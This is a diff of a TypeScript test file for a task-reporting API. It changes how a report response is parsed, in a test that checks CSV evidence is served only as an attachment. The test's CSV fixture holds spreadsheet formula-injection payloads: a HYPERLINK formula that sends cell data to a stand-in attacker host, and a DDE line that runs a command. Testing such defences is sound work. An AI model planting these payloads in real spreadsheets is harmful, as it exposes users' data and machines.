@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DIALECTS } from '../support/databases.ts';
-import { createTestApp, json, TestClock, type TestApp } from '../support/harness.ts';
+import { answer, createTestApp, json, TestClock, type TestApp } from '../support/harness.ts';
 import { buildTask, buildUnit, buildUser, signIn, type SignedIn } from '../support/factories.ts';
 import { multipart } from '../support/multipart.ts';
 
@@ -89,7 +89,7 @@ describe.each(DIALECTS)('text input hygiene (%s)', (dialect) => {
   });
 
   it('serves CSV evidence only as an attachment, with a warning that formula cells are not neutralised', async () => {
-    const report = json<{ id: string }>(await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-05', progress: 10, text: '见附件' } }));
+    const report = answer('POST /api/v1/tasks/:id/reports', await t.app.inject({ method: 'POST', url: `/api/v1/tasks/${taskId}/reports`, headers: liaison.headers, payload: { periodKey: '2024-05', progress: 10, text: '见附件' } }));
     const csv = '项目,金额\n=HYPERLINK("http://evil.example/?"&A1,"点此"),100\n+cmd|\' /C calc\'!A0,1\n';
     const body = multipart({ filename: '台账.csv', content: csv });
     const up = await t.app.inject({ method: 'POST', url: `/api/v1/reports/${report.id}/evidence`, headers: { ...liaison.headers, ...body.headers }, payload: body.payload });
